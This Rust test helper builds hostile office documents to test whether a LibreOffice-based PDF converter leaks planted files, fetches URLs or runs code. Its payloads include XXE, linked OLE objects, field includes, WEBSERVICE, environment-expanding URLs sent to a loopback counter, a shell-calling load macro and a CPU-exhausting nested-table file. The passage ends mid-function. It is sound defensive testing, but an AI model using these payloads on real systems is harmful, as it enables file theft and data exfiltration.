//! A hostile corpus, built by the tests: documents that try to make LibreOffice read a local
//! file, fetch a URL or expand one of the service's environment variables, through as many of
//! LibreOffice's loaders as we found (OOXML relationships, ODF `xlink:href` in images,
//! backgrounds, bullets, fills, sections, OLE links and frames, SVG inside a package, RTF and
//! DOCX fields, `vnd.sun.star.expand:` URLs — CVE-2024-12426's shape — and Calc's WEBSERVICE).
//!
//! Every document points at [`Targets`]: a planted PNG of a size nothing else has, a planted
//! text file with a marker, and a loopback HTTP counter. A leak shows as the marker in the PDF's
//! text, the planted image among its images, or a request at the counter.

use std::io::{Cursor, Read, Write};
use std::path::{Path, PathBuf};
use std::sync::{Arc, Mutex};

use zip::write::SimpleFileOptions;

use crate::helpers::sample;

/// The planted image's size, in pixels: no sample document has an image of this size.
pub const PLANTED_WIDTH: u32 = 37;
pub const PLANTED_HEIGHT: u32 = 23;

/// What hostile documents point at.
pub struct Targets {
    pub dir: tempfile::TempDir,
    /// The marker inside the planted text file.
    pub marker: String,
    /// The loopback counter's base URL (`http://127.0.0.1:port`).
    pub http: String,
    /// The paths the counter was asked for.
    pub requests: Arc<Mutex<Vec<String>>>,
}

impl Targets {
    /// Plants the files (outside anything the service owns) and starts the counter.
    pub async fn plant() -> Self {
        let dir = tempfile::tempdir().unwrap();
        std::fs::write(
            dir.path().join("planted.png"),
            png(PLANTED_WIDTH, PLANTED_HEIGHT),
        )
        .unwrap();
        let marker = format!("PLANTEDSECRET{}", uuid::Uuid::new_v4().simple());
        std::fs::write(dir.path().join("secret.txt"), format!("{marker}\n")).unwrap();
        let (http, requests) = request_recorder().await;
        Self {
            dir,
            marker,
            http,
            requests,
        }
    }

    pub fn image_path(&self) -> PathBuf {
        self.dir.path().join("planted.png")
    }

    pub fn image_url(&self) -> String {
        format!("file://{}", self.image_path().display())
    }

    pub fn text_path(&self) -> PathBuf {
        self.dir.path().join("secret.txt")
    }

    pub fn text_url(&self) -> String {
        format!("file://{}", self.text_path().display())
    }

    /// A URL at the counter, tagged so a hit says which document made it.
    pub fn url(&self, tag: &str) -> String {
        format!("{}/{tag}.png", self.http)
    }

    /// Where a document's macro tries to write.
    pub fn macro_marker(&self) -> PathBuf {
        self.dir.path().join("MACRO_RAN")
    }

    pub fn hits(&self) -> Vec<String> {
        self.requests.lock().unwrap().clone()
    }
}

/// A loopback HTTP server that records the path of every request and answers 404.
pub async fn request_recorder() -> (String, Arc<Mutex<Vec<String>>>) {
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let base = format!("http://{}", listener.local_addr().unwrap());
    let seen = Arc::new(Mutex::new(Vec::new()));
    let record = seen.clone();
    tokio::spawn(async move {
        use tokio::io::{AsyncReadExt, AsyncWriteExt};
        while let Ok((mut sock, _)) = listener.accept().await {
            let mut buf = vec![0u8; 4096];
            let n = sock.read(&mut buf).await.unwrap_or(0);
            let head = String::from_utf8_lossy(&buf[..n]);
            let path = head.split_whitespace().nth(1).unwrap_or("?").to_string();
            record.lock().unwrap().push(path);
            let _ = sock
                .write_all(b"HTTP/1.1 404 Not Found\r\ncontent-length: 0\r\n\r\n")
                .await;
        }
    });
    (base, seen)
}

/// A solid red PNG of `w`×`h` pixels.
pub fn png(w: u32, h: u32) -> Vec<u8> {
    crate::fixtures::rgb_png(w, h, |_, _| [255, 0, 0])
}

/// How a document leaks when nothing stops it.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Leak {
    /// The planted image ends up in the PDF.
    Image,
    /// The planted text ends up in the PDF.
    Text,
    /// The counter gets a request.
    Http,
    /// The counter gets a request carrying the canary variable's value.
    Env,
    /// A macro writes the marker file [`Targets::macro_marker`].
    Macro,
}

pub struct HostileDoc {
    pub name: &'static str,
    /// With the extension that says its type.
    pub filename: String,
    pub bytes: Vec<u8>,
    pub leak: Leak,
    /// Seen to leak through a plain `soffice --convert-to pdf` (LibreOffice 7.4, Debian 12),
    /// even with offload's hardened profile: the control run insists on these.
    pub leaks_through_the_profile: bool,
}

fn doc(name: &'static str, ext: &str, bytes: Vec<u8>, leak: Leak, proven: bool) -> HostileDoc {
    HostileDoc {
        name,
        filename: format!("{name}.{ext}"),
        bytes,
        leak,
        leaks_through_the_profile: proven,
    }
}

/// Every hostile document, pointed at `t`. `canary` names the environment variable an
/// exfiltration attempt asks for.
pub fn corpus(t: &Targets, canary: &str) -> Vec<HostileDoc> {
    let (img, txt) = (t.image_url(), t.text_url());
    let mut docs = vec![
        doc(
            "pptx_ole_link_text",
            "pptx",
            pptx_ole_link(&txt),
            Leak::Text,
            true,
        ),
        doc(
            "pptx_shape_fill_file",
            "pptx",
            pptx_shape_fill(&img),
            Leak::Image,
            true,
        ),
        doc(
            "pptx_picture_link_file",
            "pptx",
            pptx_picture_link(&img),
            Leak::Image,
            false,
        ),
        doc(
            "pptx_picture_link_http",
            "pptx",
            pptx_picture_link(&t.url("pptx_pic")),
            Leak::Http,
            false,
        ),
        doc(
            "docx_image_link_file",
            "docx",
            docx_image_link(&img),
            Leak::Image,
            false,
        ),
        doc(
            "docx_image_link_http",
            "docx",
            docx_image_link(&t.url("docx_img")),
            Leak::Http,
            false,
        ),
        doc(
            "docx_includepicture",
            "docx",
            docx_field(&format!("INCLUDEPICTURE \"{img}\" \\d")),
            Leak::Image,
            false,
        ),
        doc(
            "docx_includetext",
            "docx",
            docx_field(&format!("INCLUDETEXT \"{}\"", t.text_path().display())),
            Leak::Text,
            false,
        ),
        doc(
            "odt_image_file",
            "odt",
            odt(&odf_frame(&img), "", ""),
            Leak::Image,
            false,
        ),
        doc(
            "odt_image_http",
            "odt",
            odt(&odf_frame(&t.url("odt_img")), "", ""),
            Leak::Http,
            false,
        ),
        doc(
            "odt_paragraph_background_file",
            "odt",
            odt_paragraph_background(&img),
            Leak::Image,
            true,
        ),
        doc(
            "odt_paragraph_background_http",
            "odt",
            odt_paragraph_background(&t.url("odt_bg")),
            Leak::Http,
            true,
        ),
        doc(
            "odt_bullet_image_file",
            "odt",
            odt_bullet_image(&img),
            Leak::Image,
            true,
        ),
        doc(
            "odt_bitmap_fill_file",
            "odt",
            odt_bitmap_fill(&img),
            Leak::Image,
            true,
        ),
        doc(
            "odt_svg_image_in_package",
            "odt",
            odt_svg(&img, &t.url("svg_img")),
            Leak::Image,
            true,
        ),
        doc(
            "odt_linked_section",
            "odt",
            odt(
                &format!(
                    r#"<text:section text:name="S1"><text:section-source xlink:href="{txt}" text:filter-name="Text"/><text:p>old</text:p></text:section>"#
                ),
                "",
                "",
            ),
            Leak::Text,
            false,
        ),
        doc(
            "odt_ole_link",
            "odt",
            odt(
                &format!(
                    r#"<text:p><draw:frame text:anchor-type="as-char" svg:width="5cm" svg:height="5cm"><draw:object xlink:href="{txt}" xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"/></draw:frame></text:p>"#
                ),
                "",
                "",
            ),
            Leak::Text,
            false,
        ),
        doc(
            "odt_floating_frame",
            "odt",
            odt(
                &format!(
                    r#"<text:p><draw:frame text:anchor-type="as-char" svg:width="10cm" svg:height="5cm"><draw:floating-frame xlink:href="{txt}" xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"/></draw:frame></text:p>"#
                ),
                "",
                "",
            ),
            Leak::Text,
            false,
        ),
        doc(
            "odt_expand_environment",
            "odt",
            odt_paragraph_background(&format!(
                "vnd.sun.star.expand:{}/env-${{{canary}}}-x.png",
                t.http
            )),
            Leak::Env,
            true,
        ),
        doc(
            "odt_expand_environment_image",
            "odt",
            odt(
                &odf_frame(&format!(
                    "vnd.sun.star.expand:{}/envimg-${{{canary}}}-x.png",
                    t.http
                )),
                "",
                "",
            ),
            Leak::Env,
            false,
        ),
        doc(
            "odp_image_file",
            "odp",
            odp(&format!(
                r#"<draw:frame svg:width="5cm" svg:height="5cm" svg:x="1cm" svg:y="1cm"><draw:image xlink:href="{img}"/></draw:frame>"#
            )),
            Leak::Image,
            true,
        ),
        doc(
            "odp_image_http",
            "odp",
            odp(&format!(
                r#"<draw:frame svg:width="5cm" svg:height="5cm" svg:x="1cm" svg:y="1cm"><draw:image xlink:href="{}"/></draw:frame>"#,
                t.url("odp_img")
            )),
            Leak::Http,
            true,
        ),
        doc(
            "ods_image_file",
            "ods",
            ods(
                &format!(
                    r#"<table:shapes><draw:frame svg:width="5cm" svg:height="5cm" svg:x="1cm" svg:y="1cm"><draw:image xlink:href="{img}"/></draw:frame></table:shapes>"#
                ),
                "",
            ),
            Leak::Image,
            true,
        ),
        doc(
            "ods_linked_sheet",
            "ods",
            ods(
                &format!(
                    r#"<table:table-source xlink:href="{txt}" table:filter-name="Text - txt - csv (StarCalc)" table:table-name="" table:mode="copy-all"/>"#
                ),
                "",
            ),
            Leak::Text,
            false,
        ),
        doc(
            "ods_webservice",
            "ods",
            ods(
                "",
                &format!(
                    r#"table:formula="of:=WEBSERVICE(&quot;{}&quot;)""#,
                    t.url("webservice")
                ),
            ),
            Leak::Http,
            false,
        ),
        doc(
            "ods_data_mapping_file",
            "ods",
            ods_data_mapping(&txt),
            Leak::Text,
            true,
        ),
        doc(
            "ods_data_mapping_http",
            "ods",
            ods_data_mapping(&t.url("mapping")),
            Leak::Http,
            true,
        ),
        doc(
            "ods_data_mapping_environment",
            "ods",
            ods_data_mapping(&format!(
                "vnd.sun.star.expand:{}/mapenv-${{{canary}}}-x.csv",
                t.http
            )),
            Leak::Env,
            true,
        ),
        doc(
            "odt_xforms_instance_environment",
            "odt",
            odt_xforms(&format!(
                "vnd.sun.star.expand:{}/xforms-${{{canary}}}-x.xml",
                t.http
            )),
            Leak::Env,
            true,
        ),
        doc(
            "odt_xforms_instance_http",
            "odt",
            odt_xforms(&t.url("xforms")),
            Leak::Http,
            true,
        ),
        doc(
            "odt_template_http",
            "odt",
            odf_with_meta(&format!(
                r#"<meta:template xlink:type="simple" xlink:actuate="onRequest" xlink:href="{}" xlink:title="t"/>"#,
                t.url("template")
            )),
            Leak::Http,
            true,
        ),
        doc(
            "pptx_background_http",
            "pptx",
            pptx_background(&t.url("pptx_bg")),
            Leak::Http,
            true,
        ),
        doc(
            "rtf_includepicture_file",
            "rtf",
            rtf_field(&format!(
                "INCLUDEPICTURE \"{}\" \\\\d",
                t.image_path().display()
            )),
            Leak::Image,
            true,
        ),
        doc(
            "rtf_includepicture_http",
            "rtf",
            rtf_field(&format!("INCLUDEPICTURE \"{}\" \\\\d", t.url("rtf_pic"))),
            Leak::Http,
            false,
        ),
        doc(
            "rtf_includetext",
            "rtf",
            rtf_field(&format!("INCLUDETEXT \"{}\"", t.text_path().display())),
            Leak::Text,
            false,
        ),
    ];
    docs.push(doc(
        "odt_doctype_entity",
        "odt",
        odt_with_entity(&txt),
        Leak::Text,
        false,
    ));
    docs.push(doc(
        "odt_macro_on_load",
        "odt",
        odt_macro(&t.macro_marker()),
        Leak::Macro,
        false,
    ));
    docs
}

fn deflated() -> SimpleFileOptions {
    SimpleFileOptions::default().compression_method(zip::CompressionMethod::Deflated)
}

/// A zip of `entries`, in order.
pub fn zip_of(entries: &[(&str, &[u8], zip::CompressionMethod)]) -> Vec<u8> {
    let mut out = zip::ZipWriter::new(Cursor::new(Vec::new()));
    for (name, data, method) in entries {
        out.start_file(
            *name,
            SimpleFileOptions::default().compression_method(*method),
        )
        .unwrap();
        out.write_all(data).unwrap();
    }
    out.finish().unwrap().into_inner()
}

/// deck5.pptx with `shape` added to slide 1 and `rel` to its relationships.
fn deck_with(shape: &str, rel: &str) -> Vec<u8> {
    let mut src = zip::ZipArchive::new(std::fs::File::open(sample("deck5.pptx")).unwrap()).unwrap();
    let mut out = zip::ZipWriter::new(Cursor::new(Vec::new()));
    for i in 0..src.len() {
        let mut entry = src.by_index(i).unwrap();
        let name = entry.name().to_string();
        let mut data = Vec::new();
        entry.read_to_end(&mut data).unwrap();
        let text = String::from_utf8_lossy(&data);
        if name == "ppt/slides/slide1.xml" {
            data = text
                .replace("</p:spTree>", &format!("{shape}</p:spTree>"))
                .into_bytes();
        } else if name == "ppt/slides/_rels/slide1.xml.rels" {
            data = text
                .replace("</Relationships>", &format!("{rel}</Relationships>"))
                .into_bytes();
        }
        out.start_file(name, deflated()).unwrap();
        out.write_all(&data).unwrap();
    }
    out.finish().unwrap().into_inner()
}

const REL_NS: &str = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";

fn external_rel(id: &str, kind: &str, target: &str) -> String {
    format!(
        r#"<Relationship Id="{id}" Type="{REL_NS}/{kind}" Target="{target}" TargetMode="External"/>"#
    )
}

/// The issue's first example: an OLE object *linked* to a local file; LibreOffice prints the
/// file's text on the slide.
fn pptx_ole_link(target: &str) -> Vec<u8> {
    let shape = r#"<p:graphicFrame><p:nvGraphicFramePr><p:cNvPr id="77" name="Object 1"/><p:cNvGraphicFramePr/><p:nvPr/></p:nvGraphicFramePr><p:xfrm><a:off x="500000" y="500000"/><a:ext cx="6000000" cy="4000000"/></p:xfrm><a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/presentationml/2006/ole"><p:oleObj name="Document" r:id="rIdOle" imgW="6000000" imgH="4000000" progId="Word.Document.12"><p:link updateAutomatic="1"/></p:oleObj></a:graphicData></a:graphic></p:graphicFrame>"#;
    deck_with(shape, &external_rel("rIdOle", "oleObject", target))
}

fn pptx_shape_fill(target: &str) -> Vec<u8> {
    let shape = r#"<p:sp><p:nvSpPr><p:cNvPr id="78" name="Fill"/><p:cNvSpPr/><p:nvPr/></p:nvSpPr><p:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="2000000" cy="2000000"/></a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom><a:blipFill><a:blip r:link="rIdFill"/><a:stretch><a:fillRect/></a:stretch></a:blipFill></p:spPr></p:sp>"#;
    deck_with(shape, &external_rel("rIdFill", "image", target))
}

fn pptx_picture_link(target: &str) -> Vec<u8> {
    let shape = r#"<p:pic><p:nvPicPr><p:cNvPr id="99" name="Linked"/><p:cNvPicPr/><p:nvPr/></p:nvPicPr><p:blipFill><a:blip r:link="rIdExt"/><a:stretch><a:fillRect/></a:stretch></p:blipFill><p:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="1000000" cy="1000000"/></a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></p:spPr></p:pic>"#;
    deck_with(shape, &external_rel("rIdExt", "image", target))
}

/// A docx of `body` with `rels` for its main part.
pub fn docx(body: &str, rels: &str) -> Vec<u8> {
    let document = format!(
        r#"<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="{REL_NS}" xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><w:body>{body}</w:body></w:document>"#
    );
    let rels = format!(
        r#"<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{rels}</Relationships>"#
    );
    let d = zip::CompressionMethod::Deflated;
    zip_of(&[
        ("[Content_Types].xml", br#"<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>"#, d),
        ("_rels/.rels", br#"<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>"#, d),
        ("word/document.xml", document.as_bytes(), d),
        ("word/_rels/document.xml.rels", rels.as_bytes(), d),
    ])
}

fn docx_image_link(target: &str) -> Vec<u8> {
    let body = r#"<w:p><w:r><w:drawing><wp:inline><wp:extent cx="900000" cy="900000"/><wp:docPr id="1" name="p"/><a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic><pic:nvPicPr><pic:cNvPr id="1" name="p"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip r:link="rIdX"/><a:stretch><a:fillRect/></a:stretch></pic:blipFill><pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="900000" cy="900000"/></a:xfrm><a:prstGeom prst="rect"/></pic:spPr></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>"#;
    docx(body, &external_rel("rIdX", "image", target))
}

/// A docx whose only paragraph is a complex field with `instruction`, its keyword split over
/// two runs (as Word writes long instructions).
fn docx_field(instruction: &str) -> Vec<u8> {
    let (head, tail) = instruction.split_at(7);
    let body = format!(
        r#"<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> {head}</w:instrText></w:r><w:r><w:instrText xml:space="preserve">{tail} </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>"#
    );
    docx(&body, "")
}

const ODF_NS: &str = r#"xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:style="urn:oasis:names:tc:opendocument:xmlns:style:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" xmlns:fo="urn:oasis:names:tc:opendocument:xmlns:xsl-fo-compatible:1.0" xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:svg="urn:oasis:names:tc:opendocument:xmlns:svg-compatible:1.0" xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" xmlns:presentation="urn:oasis:names:tc:opendocument:xmlns:presentation:1.0" xmlns:meta="urn:oasis:names:tc:opendocument:xmlns:meta:1.0" xmlns:form="urn:oasis:names:tc:opendocument:xmlns:form:1.0" xmlns:xforms="http://www.w3.org/2002/xforms" xmlns:calcext="urn:org:documentfoundation:names:experimental:calc:xmlns:calcext:1.0" office:version="1.3""#;

/// An ODF package of `mime` with `content` (the `office:body` inside), `styles`, `automatic`
/// styles and extra entries.
fn odf(
    mime: &str,
    content: &str,
    styles: &str,
    automatic: &str,
    extra: &[(&str, &[u8])],
) -> Vec<u8> {
    let content = format!(
        r#"<?xml version="1.0" encoding="UTF-8"?><office:document-content {ODF_NS}><office:automatic-styles>{automatic}</office:automatic-styles><office:body>{content}</office:body></office:document-content>"#
    );
    let styles = format!(
        r#"<?xml version="1.0" encoding="UTF-8"?><office:document-styles {ODF_NS}><office:styles>{styles}</office:styles></office:document-styles>"#
    );
    let listed: String = extra
        .iter()
        .map(|(name, _)| {
            let media = if name.ends_with(".svg") { "image/svg+xml" } else { "text/xml" };
            format!(r#"<manifest:file-entry manifest:full-path="{name}" manifest:media-type="{media}"/>"#)
        })
        .collect();
    let manifest = format!(
        r#"<?xml version="1.0" encoding="UTF-8"?><manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.3"><manifest:file-entry manifest:full-path="/" manifest:media-type="{mime}"/><manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/><manifest:file-entry manifest:full-path="styles.xml" manifest:media-type="text/xml"/>{listed}</manifest:manifest>"#
    );
    let (s, d) = (
        zip::CompressionMethod::Stored,
        zip::CompressionMethod::Deflated,
    );
    let mut entries: Vec<(&str, &[u8], zip::CompressionMethod)> = vec![
        ("mimetype", mime.as_bytes(), s),
        ("content.xml", content.as_bytes(), d),
        ("styles.xml", styles.as_bytes(), d),
        ("META-INF/manifest.xml", manifest.as_bytes(), d),
    ];
    entries.extend(extra.iter().map(|(n, b)| (*n, *b, d)));
    zip_of(&entries)
}

const ODT: &str = "application/vnd.oasis.opendocument.text";

pub fn odt(text: &str, styles: &str, automatic: &str) -> Vec<u8> {
    odf(
        ODT,
        &format!("<office:text>{text}</office:text>"),
        styles,
        automatic,
        &[],
    )
}

fn odp(page: &str) -> Vec<u8> {
    odf(
        "application/vnd.oasis.opendocument.presentation",
        &format!(
            r#"<office:presentation><draw:page draw:name="p1">{page}</draw:page></office:presentation>"#
        ),
        "",
        "",
        &[],
    )
}

/// A one-sheet spreadsheet: `inside` goes first in the table, `cell_attrs` on its only cell.
fn ods(inside: &str, cell_attrs: &str) -> Vec<u8> {
    odf(
        "application/vnd.oasis.opendocument.spreadsheet",
        &format!(
            r#"<office:spreadsheet><table:table table:name="S">{inside}<table:table-row><table:table-cell {cell_attrs} office:value-type="string" office:string-value="a"><text:p>a</text:p></table:table-cell></table:table-row></table:table></office:spreadsheet>"#
        ),
        "",
        "",
        &[],
    )
}

fn odf_frame(href: &str) -> String {
    format!(
        r#"<text:p>x<draw:frame text:anchor-type="as-char" svg:width="2cm" svg:height="2cm"><draw:image xlink:href="{href}" xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"/></draw:frame></text:p>"#
    )
}

fn odt_paragraph_background(href: &str) -> Vec<u8> {
    odt(
        r#"<text:p text:style-name="P1">hello</text:p>"#,
        "",
        &format!(
            r#"<style:style style:name="P1" style:family="paragraph"><style:paragraph-properties><style:background-image xlink:href="{href}" xlink:type="simple" xlink:actuate="onLoad" style:repeat="stretch"/></style:paragraph-properties></style:style>"#
        ),
    )
}

fn odt_bullet_image(href: &str) -> Vec<u8> {
    odt(
        r#"<text:list text:style-name="L1"><text:list-item><text:p>item</text:p></text:list-item></text:list>"#,
        "",
        &format!(
            r#"<text:list-style style:name="L1"><text:list-level-style-image text:level="1" xlink:href="{href}" xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"><style:list-level-properties fo:width="0.5cm" fo:height="0.5cm"/></text:list-level-style-image></text:list-style>"#
        ),
    )
}

fn odt_bitmap_fill(href: &str) -> Vec<u8> {
    odt(
        r#"<text:p><draw:frame draw:style-name="G1" text:anchor-type="as-char" svg:width="3cm" svg:height="3cm"><draw:text-box><text:p>fill</text:p></draw:text-box></draw:frame></text:p>"#,
        &format!(
            r#"<draw:fill-image draw:name="Bmp1" xlink:href="{href}" xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"/>"#
        ),
        r#"<style:style style:name="G1" style:family="graphic"><style:graphic-properties draw:fill="bitmap" draw:fill-image-name="Bmp1"/></style:style>"#,
    )
}

/// An SVG image inside the package whose `<image>`s point at a local file and a URL.
fn odt_svg(file: &str, url: &str) -> Vec<u8> {
    let svg = format!(
        r#"<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="200" height="200"><image x="0" y="0" width="200" height="200" xlink:href="{file}"/><image x="0" y="0" width="20" height="20" href="{url}"/></svg>"#
    );
    odf(
        ODT,
        &format!(
            "<office:text>{}</office:text>",
            odf_frame("Pictures/evil.svg")
        ),
        "",
        "",
        &[("Pictures/evil.svg", svg.as_bytes())],
    )
}

/// content.xml with a DOCTYPE declaring an external entity (XXE) used in a paragraph.
fn odt_with_entity(target: &str) -> Vec<u8> {
    let content = format!(
        r#"<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE office:document-content [<!ENTITY leak SYSTEM "{target}">]><office:document-content {ODF_NS}><office:body><office:text><text:p>&leak;</text:p></office:text></office:body></office:document-content>"#
    );
    let (s, d) = (
        zip::CompressionMethod::Stored,
        zip::CompressionMethod::Deflated,
    );
    zip_of(&[
        ("mimetype", ODT.as_bytes(), s),
        ("content.xml", content.as_bytes(), d),
        ("META-INF/manifest.xml", format!(r#"<?xml version="1.0" encoding="UTF-8"?><manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.3"><manifest:file-entry manifest:full-path="/" manifest:media-type="{ODT}"/><manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/></manifest:manifest>"#).as_bytes(), d),
    ])
}

/// A Basic macro bound to the document's load event that writes `marker`.
fn odt_macro(marker: &Path) -> Vec<u8> {
    let content = format!(
        r#"<?xml version="1.0" encoding="UTF-8"?><office:document-content {ODF_NS} xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0"><office:scripts><office:event-listeners><script:event-listener script:language="ooo:script" script:event-name="dom:load" xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=document"/></office:event-listeners></office:scripts><office:body><office:text><text:p>macro</text:p></office:text></office:body></office:document-content>"#
    );
    let module = format!(
        r#"<?xml version="1.0" encoding="UTF-8"?><script:module xmlns:script="http://openoffice.org/2000/script" script:name="Module1" script:language="StarBasic">Sub Main
  Open &quot;{}&quot; For Output As #1
  Print #1, &quot;ran&quot;
  Close #1
  Shell(&quot;/bin/sh -c 'touch {}'&quot;)
End Sub
</script:module>"#,
        marker.display(),
        marker.display()
    );
    let files = [
        "content.xml",
        "Basic/script-lc.xml",
        "Basic/Standard/script-lb.xml",
        "Basic/Standard/Module1.xml",
    ];
    let listed: String = files
        .iter()
        .map(|f| {
            format!(
                r#"<manifest:file-entry manifest:full-path="{f}" manifest:media-type="text/xml"/>"#
            )
        })
        .collect();
    let manifest = format!(
        r#"<?xml version="1.0" encoding="UTF-8"?><manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.3"><manifest:file-entry manifest:full-path="/" manifest:media-type="{ODT}"/>{listed}</manifest:manifest>"#
    );
    let (s, d) = (
        zip::CompressionMethod::Stored,
        zip::CompressionMethod::Deflated,
    );
    zip_of(&[
        ("mimetype", ODT.as_bytes(), s),
        ("content.xml", content.as_bytes(), d),
        ("Basic/script-lc.xml", br#"<?xml version="1.0" encoding="UTF-8"?><library:libraries xmlns:library="http://openoffice.org/2000/library" xmlns:xlink="http://www.w3.org/1999/xlink"><library:library library:name="Standard" library:link="false"/></library:libraries>"#, d),
        ("Basic/Standard/script-lb.xml", br#"<?xml version="1.0" encoding="UTF-8"?><library:library xmlns:library="http://openoffice.org/2000/library" library:name="Standard" library:readonly="false" library:passwordprotected="false"><library:element library:name="Module1"/></library:library>"#, d),
        ("Basic/Standard/Module1.xml", module.as_bytes(), d),
        ("META-INF/manifest.xml", manifest.as_bytes(), d),
    ])
}

/// A spreadsheet whose database range is filled from `href` by a data mapping at load
/// (CVE-2026-63270's shape; not fixed in Debian 12's LibreOffice).
fn ods_data_mapping(href: &str) -> Vec<u8> {
    let body = format!(
        r#"<office:spreadsheet><table:table table:name="Sheet1"><table:table-column/><table:table-row><table:table-cell office:value-type="string"><text:p>cached</text:p></table:table-cell></table:table-row></table:table><table:database-ranges><table:database-range table:name="dr1" table:target-range-address="Sheet1.A1:Sheet1.C5"/></table:database-ranges><calcext:data-mappings><calcext:data-mapping xlink:href="{href}" calcext:provider="org.libreoffice.calc.csv" calcext:database-name="dr1"/></calcext:data-mappings></office:spreadsheet>"#
    );
    odf(
        "application/vnd.oasis.opendocument.spreadsheet",
        &body,
        "",
        "",
        &[],
    )
}

/// A text document with an XForms model whose instance is loaded from `src`.
fn odt_xforms(src: &str) -> Vec<u8> {
    odt(
        &format!(
            r#"<office:forms><xforms:model xforms:id="M1"><xforms:instance xforms:id="I1" src="{src}"/></xforms:model></office:forms><text:p>x</text:p>"#
        ),
        "",
        "",
    )
}

/// A text document with `meta` in its meta.xml.
fn odf_with_meta(meta: &str) -> Vec<u8> {
    let meta = format!(
        r#"<?xml version="1.0" encoding="UTF-8"?><office:document-meta {ODF_NS}><office:meta>{meta}</office:meta></office:document-meta>"#
    );
    odf(
        ODT,
        "<office:text><text:p>x</text:p></office:text>",
        "",
        "",
        &[("meta.xml", meta.as_bytes())],
    )
}

/// deck5.pptx whose first slide's background is a picture linked to `target`.
fn pptx_background(target: &str) -> Vec<u8> {
    let mut src = zip::ZipArchive::new(std::fs::File::open(sample("deck5.pptx")).unwrap()).unwrap();
    let mut out = zip::ZipWriter::new(Cursor::new(Vec::new()));
    let background = r#"<p:bg><p:bgPr><a:blipFill><a:blip r:link="rIdBg"/><a:stretch><a:fillRect/></a:stretch></a:blipFill><a:effectLst/></p:bgPr></p:bg>"#;
    for i in 0..src.len() {
        let mut entry = src.by_index(i).unwrap();
        let name = entry.name().to_string();
        let mut data = Vec::new();
        entry.read_to_end(&mut data).unwrap();
        let text = String::from_utf8_lossy(&data);
        if name == "ppt/slides/slide1.xml" {
            let at = text.find("<p:spTree>").expect("a shape tree");
            let mut slide = text.to_string();
            slide.insert_str(at, background);
            data = slide.into_bytes();
        } else if name == "ppt/slides/_rels/slide1.xml.rels" {
            let rel = external_rel("rIdBg", "image", target);
            data = text
                .replace("</Relationships>", &format!("{rel}</Relationships>"))
                .into_bytes();
        }
        out.start_file(name, deflated()).unwrap();
        out.write_all(&data).unwrap();
    }
    out.finish().unwrap().into_inner()
}

fn rtf_field(instruction: &str) -> Vec<u8> {
    format!(r#"{{\rtf1\ansi{{\field{{\*\fldinst {instruction}}}{{\fldrslt x}}}}\par hello}}"#)
        .into_bytes()
}

/// A docx of `tables` tables nested inside each other's cells (2.5 KB; LibreOffice's layout
/// of it takes tens of CPU seconds).
pub fn nested_tables_docx(tables: usize) -> Vec<u8> {
    let open = "<w:tbl><w:tr><w:tc><w:p><w:r><w:t>x</w:t></w:r></w:p>".repeat(tables);
    let close = "</w:tc></w:tr></w:tbl><w:p/>".repeat(tables);
    docx(&format!("{open}<w:p/>{close}"), "")
}

/// Runs `pdftotext` (poppler-utils) on a PDF.
pub fn pdf_text(pdf: &[u8]) -> String {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("doc.pdf");
    std::fs::write(&path, pdf).unwrap();
    let out = std::process::Command::new("pdftotext")
